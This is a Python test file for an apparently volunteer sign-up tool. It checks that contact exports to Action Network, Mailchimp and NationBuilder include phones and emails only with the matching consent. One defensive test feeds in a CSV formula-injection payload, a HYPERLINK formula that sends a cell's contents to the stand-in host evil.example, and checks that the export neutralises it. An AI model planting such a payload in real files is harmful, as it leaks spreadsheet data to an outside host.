"""Upload files carry only what each person agreed to (issue 12), and the formula-guard policy.

Action Network sets mobile opt-in with one checkbox per upload, so its export is two files:
everyone who agreed to email (no phone numbers), and everyone who agreed to texts (with phones;
an email address only where they also agreed to email). Mailchimp's file carries a phone only
with text consent. These hold whatever the export options widen.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from kit.domain.signup import SignupForm
from kit.services.exports import (
    ExportCancelled,
    ExportOptions,
    companion_path,
    export_contacts,
)
from kit.services.signups import record_signup
from tests.unit.export_samples import export_bytes, sample_records

# (first name, email, phone, agreed to email, agreed to texts): every combination.
PEOPLE = [
    ("Both", "both@example.org", "612-555-0101", True, True),
    ("MailOnly", "mail@example.org", "612-555-0102", True, False),
    ("TextOnly", "text@example.org", "612-555-0103", False, True),
    ("Neither", "neither@example.org", "612-555-0104", False, False),
    ("PhoneText", "", "612-555-0105", False, True),
    ("PhoneNo", "", "612-555-0106", False, False),
]
PHONE = {name: "+1" + phone.replace("-", "") for name, _, phone, _, _ in PEOPLE}
NO_SMS = {name for name, _, _, _, sms in PEOPLE if not sms}
NO_EMAIL = {name for name, _, _, mail, _ in PEOPLE if not mail}
EMAIL = {name: email for name, email, *_ in PEOPLE}


@pytest.fixture
def everyone(kit_with_event):
    for first, email, phone, mail, sms in PEOPLE:
        record_signup(kit_with_event, SignupForm(first_name=first, email=email, phone=phone,
                                                 consent_email=mail, consent_sms=sms))
    return kit_with_event


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _assert_no_phone_without_sms_consent(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    for name in NO_SMS:
        assert PHONE[name] not in text, (path.name, name)
        assert PHONE[name][2:] not in text, (path.name, name)


@pytest.mark.parametrize("widen", [ExportOptions(), ExportOptions(include_everyone=True)],
                         ids=["default", "include-unconsented"])
def test_action_network_writes_an_email_file_and_a_texts_file(everyone, tmp_path, widen):
    out = tmp_path / "an.csv"
    result = export_contacts(everyone, "actionnetwork", out, widen)
    texts = tmp_path / "an-texts.csv"
    assert companion_path(out) == texts
    assert result.companion is not None and result.companion.path == texts

    emails = _read(out)
    assert "phone" not in emails[0]  # no phone column at all: nothing for the box to subscribe
    _assert_no_phone_without_sms_consent(out)
    for row in emails:
        assert not any(cell in PHONE.values() for cell in row.values())
    names = {row["first_name"] for row in emails}
    if widen.include_everyone:
        assert names == {"Both", "MailOnly", "TextOnly", "Neither"}  # those with an email
        assert result.warnings
    else:
        assert names == {"Both", "MailOnly"}

    rows = {row["first_name"]: row for row in _read(texts)}
    # Only people who agreed to texts, each with their phone, whatever the options say.
    assert set(rows) == {"Both", "TextOnly", "PhoneText"}
    assert result.companion.count == 3 and not result.companion.warnings
    for name, row in rows.items():
        assert row["phone"] == PHONE[name]
        # The upload subscribes every email in the file too: only those who agreed to email.
        assert row["email"] == ("" if name in NO_EMAIL else EMAIL[name])
    _assert_no_phone_without_sms_consent(texts)


def test_mailchimp_carries_a_phone_only_with_text_consent(everyone, tmp_path):
    out = tmp_path / "mc.csv"
    export_contacts(everyone, "mailchimp", out, ExportOptions(include_everyone=True))
    rows = {row["First Name"]: row for row in _read(out)}
    assert rows["Both"]["Phone Number"] == PHONE["Both"]
    assert rows["TextOnly"]["Phone Number"] == PHONE["TextOnly"]
    assert rows["MailOnly"]["Phone Number"] == ""
    _assert_no_phone_without_sms_consent(out)
    default = tmp_path / "mc-default.csv"
    export_contacts(everyone, "mailchimp", default)
    assert {row["First Name"] for row in _read(default)} == {"Both", "MailOnly"}


def test_a_cancelled_action_network_export_leaves_neither_file(everyone, tmp_path, monkeypatch):
    import kit.services.exports as exports

    monkeypatch.setattr(exports, "PROGRESS_EVERY", 1)
    out = tmp_path / "an.csv"
    with pytest.raises(ExportCancelled):
        export_contacts(everyone, "actionnetwork", out, cancel=lambda: True)
    assert not out.exists() and not companion_path(out).exists()


@pytest.mark.parametrize("fmt", ["actionnetwork", "mailchimp", "nationbuilder"])
@pytest.mark.parametrize("widen", [ExportOptions(), ExportOptions(include_everyone=True)],
                         ids=["default", "include-unconsented"])
def test_no_upload_file_holds_a_phone_without_a_yes_to_texts(everyone, tmp_path, fmt, widen):
    # One rule for every upload preset: NationBuilder's phone_number and mobile_number included
    # (it once wrote both for people with mobile_opt_in=N).
    out = tmp_path / f"{fmt}.csv"
    result = export_contacts(everyone, fmt, out, widen)
    for path in (out, *([result.companion.path] if result.companion else [])):
        _assert_no_phone_without_sms_consent(path)
        assert "text_consent" not in path.read_text(encoding="utf-8").splitlines()[0]


def test_nationbuilder_carries_each_person_s_answers_and_zip(everyone, tmp_path):
    out = tmp_path / "nb.csv"
    export_contacts(everyone, "nationbuilder", out, ExportOptions(include_everyone=True))
    rows = {row["first_name"]: row for row in _read(out)}
    assert (rows["Both"]["mobile_number"], rows["Both"]["phone_number"]) == (PHONE["Both"],) * 2
    assert (rows["MailOnly"]["mobile_number"], rows["MailOnly"]["phone_number"]) == ("", "")
    assert rows["MailOnly"]["mobile_opt_in"] == "N" and rows["MailOnly"]["email_opt_in"] == "Y"
    record_signup(everyone, SignupForm(first_name="Zed", email="zed@example.org",
                                       postal_code="55406", consent_email=True))
    export_contacts(everyone, "nationbuilder", out)
    assert {row["first_name"]: row["zip"] for row in _read(out)}["Zed"] == "55406"


@pytest.mark.parametrize(("fmt", "phone_column", "name_column"), [
    ("mailchimp", "Phone Number", "First Name"), ("nationbuilder", "mobile_number", "first_name")])
def test_phones_without_consent_only_when_asked_and_then_the_file_says_so(
        everyone, tmp_path, fmt, phone_column, name_column):
    out = tmp_path / f"{fmt}.csv"
    result = export_contacts(everyone, fmt, out, ExportOptions(
        include_everyone=True, include_phones_without_consent=True))
    rows = {row[name_column]: row for row in _read(out)}
    assert rows["MailOnly"][phone_column] == PHONE["MailOnly"]
    assert rows["MailOnly"]["text_consent"] == "no" and rows["Both"]["text_consent"] == "yes"
    assert any("did not agree to text" in w for w in result.warnings)


@pytest.mark.parametrize("preset", ["actionnetwork", "actionnetwork-texts", "mailchimp",
                                    "nationbuilder"])
def test_the_writers_themselves_drop_phones_without_text_consent(preset):
    """Even fed a record the service would have filtered out, a row builder drops the phone."""
    record = dataclasses.replace(sample_records()[0], consent_sms=False)
    data = export_bytes(preset, [record]).decode("utf-8")
    assert "+16125550100" not in data and "ayesha@example.org" in data


# -- formula guard in files made for machine upload --------------------------------------------
# Written here, not imported from kit.export.cells, so a change to the code's list cannot
# quietly change what this test checks.
SPREADSHEET_FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0"]
UPLOAD_PRESETS = ["actionnetwork", "actionnetwork-texts", "mailchimp", "nationbuilder"]


@pytest.mark.parametrize("preset", UPLOAD_PRESETS)
@pytest.mark.parametrize("start", SPREADSHEET_FORMULA_STARTS, ids=lambda trigger: f"U+{ord(trigger):04X}")
def test_upload_files_keep_the_formula_guard(preset, start):
    """Policy: upload files are guarded like every other CSV (see docs/coordinator-guide.md,
    "Formulas"): the file is opened in a spreadsheet before it is uploaded, and the service
    hands the value on in its own exports, so a raw formula would run on someone's computer
    later. The price is a visible `'` before such a name at the service."""
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    record = dataclasses.replace(sample_records()[0], first_name=payload, last_name=payload)
    text = export_bytes(preset, [record]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, row = rows[0], rows[1]
    first = row[header.index("first_name" if "first_name" in header else "First Name")]
    assert first == "'" + payload
    # The E.164 phone stays exactly as the service needs it.
    if "phone" in header or "Phone Number" in header or "mobile_number" in header:
        assert "+16125550100" in row


def test_a_protected_kit_writes_the_same_two_files_from_its_sealed_sign_ups(kit_with_event,
                                                                            tmp_path):
    from kit.protect.keys import KdfParams
    from kit.services import protection

    protection.init_protection(kit_with_event, "correct horse battery staple",
                               kdf=KdfParams(n=2**14))
    for first, email, phone, mail, sms in PEOPLE:
        record_signup(kit_with_event, SignupForm(first_name=first, email=email, phone=phone,
                                                 consent_email=mail, consent_sms=sms))
    out = tmp_path / "an.csv"
    result = export_contacts(kit_with_event, "actionnetwork", out,
                             ExportOptions(include_everyone=True))
    assert {r["first_name"] for r in _read(out)} == {"Both", "MailOnly", "TextOnly", "Neither"}
    assert {r["first_name"]: r["phone"] for r in _read(companion_path(out))} == {
        n: PHONE[n] for n in ("Both", "TextOnly", "PhoneText")}
    assert result.companion.count == 3
    _assert_no_phone_without_sms_consent(out)
    _assert_no_phone_without_sms_consent(companion_path(out))


@pytest.mark.parametrize("protected", [False, True], ids=["clear", "protected"])
def test_a_yes_then_a_no_keeps_the_person_out_of_the_mailchimp_file(kit_with_event, tmp_path,
                                                                    protected):
    """Issue 22's hand mutation: the latest answer is the one that counts, so someone who said
    yes at one table and no at the next is in no mailing-list file (and their phone, once
    agreed to, goes with their "no" to texts)."""
    kit = kit_with_event
    if protected:
        from kit.protect.keys import KdfParams
        from kit.services import protection

        protection.init_protection(kit, "correct horse battery staple", kdf=KdfParams(n=2**14))
    record_signup(kit, SignupForm(first_name="Changed", email="changed@example.org",
                                  phone="612-555-0107", consent_email=True, consent_sms=True))
    record_signup(kit, SignupForm(first_name="Stays", email="stays@example.org",
                                  consent_email=True))
    record_signup(kit, SignupForm(first_name="Changed", email="changed@example.org",
                                  phone="612-555-0107"))
    for fmt in ("mailchimp", "actionnetwork", "nationbuilder"):
        out = tmp_path / f"{fmt}.csv"
        result = export_contacts(kit, fmt, out)
        text = out.read_text(encoding="utf-8")
        assert "stays@example.org" in text and result.count == 1, fmt
        assert "changed@example.org" not in text and "6125550107" not in text, fmt
        if result.companion is not None:
            assert "6125550107" not in companion_path(out).read_text(encoding="utf-8")
